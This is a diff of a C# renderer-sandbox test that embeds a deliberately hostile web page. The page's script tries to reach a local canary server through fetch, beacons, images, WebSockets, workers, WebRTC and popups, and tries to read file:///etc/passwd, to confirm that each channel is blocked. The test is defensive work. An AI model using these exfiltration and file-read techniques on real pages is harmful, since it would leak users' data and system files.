@@ -60,27 +60,29 @@ public sealed class RenderedHostilePageTests(RenderingRig rig) : IClassFixture<R
             <iframe src="/pic/marco"></iframe><iframe src="file:///etc/passwd"></iframe><object data="/pic/o.svg"></object><embed src="/pic/e.pdf">
             <script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://127.0.0.1:{{canary.Port}}/s","/pic/especulada"]}]}</script>
             <script>
-              const out = 'http://127.0.0.1:{{canary.Port}}', seen = [];
-              const attempt = async (name, what) => { try { const got = await what(); seen.push(name + ':' + (got && got.ok ? 'REACHED' : 'no')); } catch { seen.push(name + ':no'); } };
-              (async () => {
-                await attempt('fetch', () => fetch(out));
-                await attempt('name', () => fetch('http://localhost:{{canary.Port}}/'));
-                await attempt('own host, other port', () => fetch('http://{{ScriptedSite.Host}}:{{canary.Port}}/', { method: 'POST', body: 'x' }));
-                await attempt('post', () => fetch('/api/publica', { method: 'POST', body: 'x' }));
-                await attempt('file', () => fetch('file:///etc/passwd'));
-                await attempt('beacon', async () => ({ ok: false, sent: navigator.sendBeacon(out, 'x') }));
-                await attempt('image', () => new Promise((done, fail) => { const image = new Image(); image.onload = () => done({ ok: true }); image.onerror = fail; image.src = out + '/i.png'; }));
-                await attempt('socket', () => new Promise((done, fail) => { const socket = new WebSocket('ws://127.0.0.1:{{canary.Port}}/'); socket.onclose = () => done({ ok: false }); socket.onerror = fail; setTimeout(fail, 500); }));
-                await attempt('events', () => new Promise((done, fail) => { const events = new EventSource(out); events.onerror = fail; setTimeout(fail, 500); }));
-                await attempt('worker', () => new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${out}/w').then(() => postMessage(1), () => postMessage(0))`]))); worker.onmessage = m => done({ ok: m.data === 1 }); worker.onerror = fail; setTimeout(fail, 1000); }));
-                await attempt('service worker', () => navigator.serviceWorker.register('/pic/sw.js').then(done => ({ ok: Boolean(done?.installing ?? done?.active) })));
-                await attempt('rtc', async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{canary.Port}}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise(done => setTimeout(done, 500)); return { ok: false }; });
-                await attempt('geo', () => new Promise((done, fail) => { navigator.geolocation.getCurrentPosition(() => done({ ok: true }), fail); setTimeout(fail, 500); }));
-                window.open(out + '/popup'); window.open('/pic/ventana');
-                const link = document.createElement('a'); link.href = '/pic/descarga.zip'; link.download = 'x.zip'; document.body.append(link); link.click();
-                localStorage.setItem('seen', String(Number(localStorage.getItem('seen') ?? 0) + 1));
-                document.body.insertAdjacentHTML('beforeend', '<h1>Intentos</h1><div class="cuerpo">' + seen.join(' ') + ' visitas:' + localStorage.getItem('seen') + '</div>');
-              })();
+              const out = 'http://127.0.0.1:{{canary.Port}}';
+              localStorage.setItem('seen', String(Number(localStorage.getItem('seen') ?? 0) + 1));
+              document.body.insertAdjacentHTML('beforeend', '<h1>Intentos</h1><div class="cuerpo">visitas:' + localStorage.getItem('seen') + '</div>');
+              const note = text => document.querySelector('.cuerpo').insertAdjacentText('beforeend', ' ' + text);
+              const attempt = async (name, what) => { try { const got = await what(); note(name + ':' + (got && got.ok ? 'REACHED' : 'no')); } catch { note(name + ':no'); } };
+              // All at once and each written down as it ends: a page that is quiet for a while is taken as it stands.
+              [
+                attempt('fetch', () => fetch(out)),
+                attempt('name', () => fetch('http://localhost:{{canary.Port}}/')),
+                attempt('own host, other port', () => fetch('http://{{ScriptedSite.Host}}:{{canary.Port}}/', { method: 'POST', body: 'x' })),
+                attempt('post', () => fetch('/api/publica', { method: 'POST', body: 'x' })),
+                attempt('file', () => fetch('file:///etc/passwd')),
+                attempt('beacon', async () => ({ ok: false, sent: navigator.sendBeacon(out, 'x') })),
+                attempt('image', () => new Promise((done, fail) => { const image = new Image(); image.onload = () => done({ ok: true }); image.onerror = fail; image.src = out + '/i.png'; })),
+                attempt('socket', () => new Promise((done, fail) => { const socket = new WebSocket('ws://127.0.0.1:{{canary.Port}}/'); socket.onclose = () => done({ ok: false }); socket.onerror = fail; setTimeout(fail, 500); })),
+                attempt('events', () => new Promise((done, fail) => { const events = new EventSource(out); events.onerror = fail; setTimeout(fail, 500); })),
+                attempt('worker', () => new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${out}/w').then(() => postMessage(1), () => postMessage(0))`]))); worker.onmessage = m => done({ ok: m.data === 1 }); worker.onerror = fail; setTimeout(fail, 1000); })),
+                attempt('service worker', () => navigator.serviceWorker.register('/pic/sw.js').then(done => ({ ok: Boolean(done?.installing ?? done?.active) }))),
+                attempt('rtc', async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{canary.Port}}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise(done => setTimeout(done, 500)); return { ok: false }; }),
+                attempt('geo', () => new Promise((done, fail) => { navigator.geolocation.getCurrentPosition(() => done({ ok: true }), fail); setTimeout(fail, 500); })),
+              ];
+              window.open(out + '/popup'); window.open('/pic/ventana');
+              const link = document.createElement('a'); link.href = '/pic/descarga.zip'; link.download = 'x.zip'; document.body.append(link); link.click();
             </script>
             """);
 
